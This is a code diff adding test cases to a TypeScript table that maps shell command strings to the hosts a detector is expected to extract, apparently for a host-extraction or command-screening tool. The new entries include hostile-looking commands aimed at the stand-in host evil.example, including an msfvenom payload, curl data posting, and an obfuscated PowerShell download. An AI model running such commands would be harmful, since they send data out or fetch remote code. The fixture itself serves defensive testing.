@@ -136,6 +136,16 @@ const COMMANDS: Readonly<Record<string, readonly string[]>> = {
   ],
   "docker pull 9.8.7.6:5000/img": ["9.8.7.6"],
   "docker login evil.example -u x": ["evil.example"],
+  "docker logs own.ru; podman exec -it web.ru sh": [],
+  "kubectl restart deployment.apps/web; docker exec web cat conf.d/x": [],
+  "git log --author=bob@own.ru; openssl req -out own.csr": [],
+  "msfvenom LHOST=evil.example LPORT=1": ["evil.example"],
+  "Send-MailMessage -SmtpServer evil.example -To a@b.ru": ["evil.example"],
+  "curl -H 'X: a.ru' -A 'Mozilla/5.0 b.ru' --data-raw 'h=c.ru' evil.example": [
+    "evil.example",
+  ],
+  "wget --user-agent=a.ru --header='Host: b.ru' evil.example": ["evil.example"],
+  'iwr ht""""tp://evil.example/x': ["http://evil.example/x", "evil.example"],
   "kubectl set image deployment/web web=evil.example/web:2": ["evil.example"],
   [
     `-join ('${
